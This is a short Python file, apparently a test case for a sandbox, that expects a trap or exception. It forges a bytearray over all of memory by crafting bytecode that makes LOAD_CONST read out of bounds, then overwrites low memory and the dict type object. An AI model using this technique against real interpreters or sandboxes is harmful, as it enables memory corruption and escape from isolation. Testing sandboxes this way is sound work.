# Builds a false bytearray over all of the sandbox's memory out of crafted bytecode, and overwrites the lowest 64 KiB.
# outcome: Trap | StackOverflow | Exception

import opcode


def run(contact, existing_contact, logger, **kwargs):
    def word(number):
        return number.to_bytes(4, "little")

    # The fields of a bytearray: references, type, size, allocated, bytes, start, exports. Its bytes begin at address 0.
    false = word(1 << 30) + word(id(bytearray)) + word(2**31 - 1) * 2 + word(0) * 3
    # A bytes object's content begins after 16 bytes, as do the items of a tuple.
    pointer = word(id(false) + 16)
    code = (lambda: None).__code__
    distance = (id(pointer) - id(code.co_consts)) // 4 % 2**30
    op = opcode.opmap
    wild = [op["RESUME"], 0]
    for shift in (24, 16, 8):
        wild += [op["EXTENDED_ARG"], distance >> shift & 255]
    wild += [op["LOAD_CONST"], distance & 255, op["RETURN_VALUE"], 0]
    memory = eval(code.replace(co_code=bytes(wild)))
    logger.info("%s of %d bytes", type(memory), len(memory))
    memory[0:65536] = bytes(65536)
    memory[id(dict) : id(dict) + 100] = bytes(100)
    return contact
